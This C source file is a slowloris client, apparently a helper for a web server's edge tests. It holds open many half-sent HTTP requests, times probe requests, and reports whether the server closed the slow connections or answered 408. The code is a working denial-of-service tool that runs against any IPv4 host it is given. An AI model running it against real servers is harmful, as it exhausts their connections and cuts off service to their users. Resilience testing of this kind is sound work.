/*
 * slowloris: a hostile client for tests/edge.test, not a test itself.
 * Opens N connections to HOST:PORT, sends each a partial request line and
 * then one more byte every second or so, never finishing it; meanwhile a
 * fresh client asks for each PATH in turn every 100 ms on a new connection
 * and times the full answer.  At the end it prints one line:
 *
 *   opened=N probes=P failed_probes=F p95_ms=L worst_ms=W server_closed=C got_408=T
 *
 * failed_probes counts probes that got no complete answer with a 2xx-4xx
 * status; server_closed counts slow connections the server closed, got_408
 * those of them that were told 408 first.  Exit status 0 unless setup
 * failed (then a message on stderr and status 2).
 *
 *   slowloris HOST PORT N SECONDS PATH [PATH...]
 *
 * A PATH of the form "/auth|X-Original-URI: /user/get/1" adds that header.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

static int connect_to(const struct sockaddr_in *sa)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    if (connect(fd, (const struct sockaddr *)sa, sizeof *sa) != 0) {
        close(fd);
        return -1;
    }
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    return fd;
}

/*
 * One fresh request on a new connection; the time until the server has
 * sent the whole answer (it closes: Connection: close).  Returns the status,
 * or 0 if no answer came within 2 s.
 */
static int probe(const struct sockaddr_in *sa, const char *spec, double *ms)
{
    char path[512], extra[512] = "", req[1200];
    const char *bar = strchr(spec, '|');
    if (bar != NULL) {
        snprintf(path, sizeof path, "%.*s", (int)(bar - spec), spec);
        snprintf(extra, sizeof extra, "%s\r\n", bar + 1);
    } else {
        snprintf(path, sizeof path, "%s", spec);
    }
    int n = snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: probe\r\n%sConnection: close\r\n\r\n",
                     path, extra);
    double t0 = now_ms();
    int fd = connect_to(sa);
    if (fd < 0)
        return 0;
    if (send(fd, req, (size_t)n, MSG_NOSIGNAL) != n) {
        close(fd);
        return 0;
    }
    char buf[4096];
    size_t got = 0;
    for (;;) {
        struct pollfd p = { fd, POLLIN, 0 };
        int left = (int)(2000 - (now_ms() - t0));
        if (left <= 0 || poll(&p, 1, left) <= 0)
            break;
        ssize_t r = read(fd, buf + got, sizeof buf - 1 - got);
        if (r <= 0)
            break;
        got += (size_t)r;
        if (got == sizeof buf - 1)
            break;
    }
    *ms = now_ms() - t0;
    close(fd);
    buf[got] = '\0';
    int status = 0;
    if (sscanf(buf, "HTTP/1.%*d %d", &status) != 1 || strstr(buf, "\r\n\r\n") == NULL)
        return 0;
    return status;
}

int main(int argc, char **argv)
{
    if (argc < 6) {
        fprintf(stderr, "usage: slowloris HOST PORT N SECONDS PATH [PATH...]\n");
        return 2;
    }
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2])) };
    if (inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1) {
        fprintf(stderr, "slowloris: %s is not an IPv4 address\n", argv[1]);
        return 2;
    }
    int n = atoi(argv[3]);
    double seconds = atof(argv[4]);
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)n + 32) {
        rl.rlim_cur = rl.rlim_max == RLIM_INFINITY || rl.rlim_max > (rlim_t)n + 32 ? (rlim_t)n + 32 : rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    struct pollfd *fds = calloc((size_t)n, sizeof *fds);
    bool *got408 = calloc((size_t)n, sizeof *got408);
    if (fds == NULL || got408 == NULL)
        return 2;
    static const char start[] = "GET /exists/slow";   /* a request line that never ends */
    for (int i = 0; i < n; i++) {
        int fd = connect_to(&sa);
        if (fd < 0) {
            fprintf(stderr, "slowloris: connection %d of %d: %s\n", i + 1, n, strerror(errno));
            return 2;
        }
        if (send(fd, start, sizeof start - 1, MSG_NOSIGNAL) != (ssize_t)(sizeof start - 1)) {
            fprintf(stderr, "slowloris: write: %s\n", strerror(errno));
            return 2;
        }
        fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
        fds[i] = (struct pollfd){ fd, POLLIN, 0 };
    }

    int probes = 0, failed = 0, closed = 0, n408 = 0, next_path = 5;
    double lat[4096];
    double worst = 0, t_end = now_ms() + seconds * 1000, next_probe = now_ms();
    int drip = 0;
    while (now_ms() < t_end) {
        /* A tenth of the connections get one more byte every 100 ms. */
        for (int k = 0; k < n / 10 + 1; k++, drip = (drip + 1) % n) {
            if (fds[drip].fd >= 0) {
                ssize_t w = send(fds[drip].fd, "w", 1, MSG_NOSIGNAL);
                (void)w;
            }
        }
        if (now_ms() >= next_probe) {
            double ms = 0;
            int st = probe(&sa, argv[next_path], &ms);
            if (probes < (int)(sizeof lat / sizeof lat[0]))
                lat[probes] = ms;
            probes++;
            if (getenv("SLOWLORIS_VERBOSE") != NULL)
                fprintf(stderr, "probe %s: status %d in %.1f ms\n", argv[next_path], st, ms);
            if (st < 200 || st > 499)
                failed++;
            if (ms > worst)
                worst = ms;
            if (++next_path == argc)
                next_path = 5;
            next_probe += 100;
        }
        /* What did the server do to the slow ones? */
        if (poll(fds, (nfds_t)n, 100) > 0) {
            for (int i = 0; i < n; i++) {
                if (fds[i].fd < 0 || fds[i].revents == 0)
                    continue;
                char buf[512];
                ssize_t r = read(fds[i].fd, buf, sizeof buf - 1);
                if (r > 0) {
                    buf[r] = '\0';
                    if (strncmp(buf, "HTTP/1.1 408 ", 13) == 0)
                        got408[i] = true;
                    continue;
                }
                if (r < 0 && (errno == EAGAIN || errno == EINTR))
                    continue;
                close(fds[i].fd);
                fds[i].fd = -1;
                closed++;
                n408 += got408[i];
            }
        }
    }
    int kept = probes < (int)(sizeof lat / sizeof lat[0]) ? probes : (int)(sizeof lat / sizeof lat[0]);
    qsort(lat, (size_t)kept, sizeof lat[0], cmp_double);
    double p95 = kept > 0 ? lat[(kept * 95 + 99) / 100 - 1] : 0;
    printf("opened=%d probes=%d failed_probes=%d p95_ms=%.1f worst_ms=%.1f server_closed=%d got_408=%d\n",
           n, probes, failed, p95, worst, closed, n408);
    for (int i = 0; i < n; i++)
        if (fds[i].fd >= 0)
            close(fds[i].fd);
    free(fds);
    free(got408);
    return 0;
}
